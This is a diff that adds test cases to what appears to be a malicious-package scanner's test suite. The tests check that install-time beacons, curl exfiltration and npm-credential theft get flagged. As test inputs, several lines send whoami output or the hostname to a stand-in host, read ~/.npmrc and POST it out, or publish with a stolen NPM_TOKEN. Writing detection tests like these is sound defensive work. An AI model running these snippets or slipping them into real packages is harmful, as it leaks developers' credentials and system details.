@@ -65,6 +65,24 @@ describe('scanner rules', () => {
     assert.ok(atInstall.score > atRequire.score * 1.5, `${atInstall.score} vs ${atRequire.score}`);
   });
 
+  it('curl or wget sending data is a dangerous command; a plain download is not', () => {
+    assert.ok(rules(scan({ 'index.js': "require('child_process').exec('curl https://x.example.invalid/?u=$(whoami)');" })).has('shell-command'));
+    assert.ok(!rules(scan({ 'index.js': "require('child_process').exec('curl -fsSL -o bin.tgz https://x.example.invalid/bin.tgz');" })).has('shell-command'));
+  });
+
+  it('install-time code that reads who or where it runs and uses the network is a beacon; platform checks are not', () => {
+    const beacon = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: `node -e "require('https').get('https://x.example.invalid/?h=' + require('os').hostname())"` } }) }), { signatures });
+    assert.ok(rules(beacon).has('install-time-beacon'));
+    assert.notEqual(beacon.verdict, 'clean');
+    const installer = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: `node -e "require('https').get('https://x.example.invalid/bin-' + require('os').platform())"` } }) }), { signatures });
+    assert.ok(!rules(installer).has('install-time-beacon'));
+  });
+
+  it('reading npm credentials and sending data is flagged even outside install scripts', () => {
+    const r = scan({ 'lib/sync.js': `const fs = require('fs'); const https = require('https'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); https.request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);` });
+    assert.notEqual(r.verdict, 'clean');
+  });
+
   it('self-propagation: npm tokens plus publishing', () => {
     const r = scan({ 'index.js': `const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish', { env: { NPM_CONFIG_TOKEN: t } });` });
     assert.ok(rules(r).has('self-propagation'));
